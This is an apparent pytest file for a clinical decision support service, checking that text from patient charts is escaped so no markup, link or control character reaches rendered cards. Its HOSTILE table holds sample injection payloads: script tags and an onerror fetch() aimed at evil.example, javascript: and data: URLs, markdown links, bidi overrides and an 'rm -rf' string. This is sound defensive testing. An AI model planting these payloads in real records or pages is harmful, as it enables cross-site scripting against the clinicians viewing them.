"""Texts of a chart on a card: whatever they hold, they are inert words there."""

from __future__ import annotations

import html
import json
import re
import unicodedata
from typing import Any

import pytest

from cds_service.cards.markdown import escape, quantity
from tests import build

ATTACKER = "evil.example"
HOSTILE = {
    "script": f"<script src=https://{ATTACKER}/x.js>alert(1)</script>",
    "image tag": f"<img src=x onerror=fetch('//{ATTACKER}')>",
    "half a tag": f"<a href=https://{ATTACKER}",
    "closing tag": "</td></div><!-- ",
    "entity": "&lt;script&gt;&#60;b&#62;",
    "markdown link": f"[click](https://{ATTACKER})",
    "markdown image": f"![x](https://{ATTACKER}/pixel.png)",
    "reference link": f"[x][1] [1]: https://{ATTACKER}",
    "autolink": f"<https://{ATTACKER}>",
    "bare URL": f"https://{ATTACKER}/path#q",
    "bare www": f"www.{ATTACKER}",
    "mail": f"a@{ATTACKER}",
    "javascript URL": "[x](javascript:alert(1))",
    "data URL": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "backticks": "`rm -rf` ``` ```js",
    "escaped markup": f"\\<b\\> \\[x\\](https://{ATTACKER})",
    "a table": "| a | b |\n|---|---|\n| c | d |",
    "a heading": "# Give the drug now\n\n---\n> quote\n1. item",
    "emphasis": "**stop** __all__ ~~drugs~~ *now*",
    "footnote": "[^1]: note",
    "right to left": "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "control characters": "a\x00b\x07c\x1b[31md\x7fe\u0085f\u2028g",
    "zero width": "java\u200bscript\ufeff:\u2060x",
    "surrogate pair": "\U0001f9ec gene",
    "huge": "A" * 20_000,
    "huge markup": "<b>" * 6_000,
    "combining": "e" + "\u0301" * 5_000,
}
VACUOLES = "Prominent vacuoles in myeloid precursors"


def card_texts(response: Any) -> list[str]:
    """Every text that a client may render, drafts included."""
    return [t for card in response.json["cards"] for t in texts(card)]


def texts(value: Any) -> list[str]:
    """Every string of a value."""
    if isinstance(value, str):
        return [value]
    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return [t for one in inner for t in texts(one)]


def active_parts(text: str) -> list[str]:
    """What a renderer of markdown or HTML could make more of than words, other than our own markup."""
    ours = re.sub(r"\[[^\[\]]+\]\((" + "|".join(map(re.escape, own_links())) + r")\)", "", text)
    ours = ours.removeprefix("http://127.0.0.1:8080/about")
    found = re.findall(r"(?<!\\)<(?! )|\]\(|\]\[|!\[|(?<!\\)`|<!--|javascript:|data:|https?://|(?<!\\)\|", ours) if not is_system(text) else []
    hidden = [repr(c) for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs") and c != "\n"]
    return [*found, *hidden]


def own_links() -> list[str]:
    """The addresses of our own citations, longest first."""
    return sorted((c.url for c in build.KNOWLEDGE.citations.values() if c.url), key=len, reverse=True)


def is_system(text: str) -> bool:
    """A code system of ours: an identifier that nobody renders."""
    return re.fullmatch(r"https?://(loinc\.org|snomed\.info/sct|vexas-cds\.example\.org/[A-Za-z/-]+)", text) is not None


def call(client: Any, prefetch: dict[str, Any]) -> Any:
    """A successful answer."""
    response = client.post(build.SERVICE, json=build.request(prefetch))
    assert 200 == response.status_code
    return response


def with_report(words: str) -> dict[str, Any]:
    """A suspect with one marrow report."""
    return {**build.suspect(), "reports": build.bundle(build.report(words))}


def with_count(resource: dict[str, Any]) -> dict[str, Any]:
    """A suspect with one MCV of a kind."""
    return {**build.suspect(), "bloodCounts": build.bundle(resource, build.platelets())}


CARRIERS = {
    "the conclusion of a report, before": lambda t: with_report(f"{t} {VACUOLES}"),
    "the conclusion of a report, after": lambda t: with_report(f"{VACUOLES} {t}"),
    "the text of a condition": lambda t: {
        **build.suspect(),
        "conditions": build.bundle(build.condition(), build.condition("x", code={"text": f"Sweet syndrome {t}"})),
    },
    "the display of a code": lambda t: {
        **build.suspect(),
        "conditions": build.bundle(build.condition(code={"coding": [{"system": build.ICD_10_CM, "code": "M94.1", "display": t}]})),
    },
    "a code": lambda t: {**build.suspect(), "conditions": build.bundle(build.condition(), build.condition(f"L98.2{t}", id="c2"))},
    "a code system": lambda t: {
        **build.suspect(),
        "conditions": build.bundle(build.condition(), build.condition(code={"coding": [{"system": t, "code": "M94.1"}]}, id="c2")),
    },
    "an id": lambda t: {**build.suspect(), "conditions": build.bundle(build.condition(id=t))},
    "a drug": lambda t: {**build.suspect(), "medicationRequests": build.bundle(build.medication(f"prednisone 20 mg {t}"))},
    "the display of a drug": lambda t: {
        **build.suspect(),
        "medicationRequests": build.bundle(build.medication(medicationCodeableConcept=None, medicationReference={"display": f"prednisone {t}"})),
    },
    "a status": lambda t: {**build.suspect(), "medicationRequests": build.bundle(build.medication(status=t))},
    "a unit": lambda t: with_count(build.mcv(unit=t)),
    "a unit after the known one": lambda t: with_count(build.mcv(unit=f"fL{t}")),
    "a unit far behind the known one": lambda t: with_count(build.mcv(unit=f"fL{' ' * 70}{t}")),
    "an annotation of a unit": lambda t: with_count(build.mcv(unit="fL{" + t[:38] + "}")),
    "a nested annotation of a unit": lambda t: with_count(build.mcv(unit="fL{{" + t[:36] + "}}")),
    "a value in words": lambda t: with_count(build.mcv(id="worded", valueQuantity=None, valueString=f"108 fL {t}")),
    "a note": lambda t: with_count(build.mcv(note=[{"text": t}])),
    "a date": lambda t: with_count(build.mcv(on=f"2026-11-01T{t}")),
    "a gene result": lambda t: {
        **build.suspect(),
        "genetics": build.bundle(build.lab("104268-8", None, "", valueQuantity=None, valueString=f"UBA1 c.122T>C p.Met41Thr detected {t}")),
    },
    "an ordered test": lambda t: {
        **build.suspect(),
        "serviceRequests": build.bundle(
            {
                "resourceType": "ServiceRequest",
                "id": "o",
                "status": "active",
                "intent": "order",
                "subject": build.subject(),
                "code": {"text": f"UBA1 gene test {t}"},
            }
        ),
    },
}


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("carrier", CARRIERS)
def test_puts_nothing_active_on_a_card(client, carrier, text):
    """No markup, link, control character or attacker's address reaches what a client renders."""
    response = call(client, CARRIERS[carrier](HOSTILE[text]))

    found = [(part, t[:300]) for t in rendered(response) for part in active_parts(t)]
    assert response.json["cards"]
    assert [] == found
    assert len(response.data) < 20_000


def rendered(response: Any) -> list[str]:
    """The texts of cards and suggestions; references and codes inside a draft are not rendered."""
    found = []
    for card in response.json["cards"]:
        suggestions = [(s["label"], *(a["description"] for a in s["actions"])) for s in card.get("suggestions", [])]
        found += [card["summary"], card["detail"], card["source"]["label"], *(t for texts_ in suggestions for t in texts_)]
    return found


def test_still_shows_the_words_of_a_report(client):
    """Escaping leaves the words readable."""
    response = call(client, with_report(f"{VACUOLES}, <5 % blasts & more."))

    detail = response.json["cards"][0]["detail"]
    shown = html.unescape(re.sub(r"\\(.)", r"\1", detail))
    assert f"{VACUOLES}, <5 % blasts & more." in shown


def test_writes_a_comparator_as_an_entity(client):
    """A result below a limit shows its sign without a bare bracket."""
    prefetch = {**build.suspect(), "inflammation": build.bundle(build.crp(5, valueQuantity={"value": 5, "comparator": "<", "unit": "mg/L"}))}

    detail = call(client, prefetch).json["cards"][0]["detail"]

    assert "&lt;5 mg/L" in detail
    assert "<5" not in detail


@pytest.mark.parametrize("unit", ["fL{<b>}", "{<b>}fL", "{](http://evil.example)}fL{x}", "10*-15.L", "um3", "fL\u202e"])
def test_shows_a_unit_without_its_annotations(client, unit):
    """A unit's annotation is free text, so it does not reach a card."""
    response = call(client, with_count(build.mcv(unit=unit)))

    assert [] == [part for t in rendered(response) for part in active_parts(t)]


def test_keeps_extensions_free_of_the_charts_words(client):
    """What could not be read is told in our own words."""
    bad = [{"resourceType": t, "id": t, "subject": 5, "code": t} for t in ("Condition", HOSTILE["script"], HOSTILE["markdown link"])]
    prefetch = {**build.healthy(), "conditions": build.bundle(*bad)}

    response = call(client, prefetch)

    assert ATTACKER not in json.dumps(response.json)


@pytest.mark.parametrize("text", HOSTILE)
def test_escapes_any_text(text):
    """An escaped text unescapes to words of the original, holds nothing active and is short."""
    escaped = escape(HOSTILE[text])

    words = html.unescape(re.sub(r"\\(.)", r"\1", escaped))
    assert [] == active_parts(escaped)
    assert len(words) <= 160
    assert "\n" not in escaped


def test_keeps_the_power_of_a_unit():
    """The asterisk of a power is escaped and not lost."""
    assert r"120 10\*9/L" == quantity("120 10*9/L")
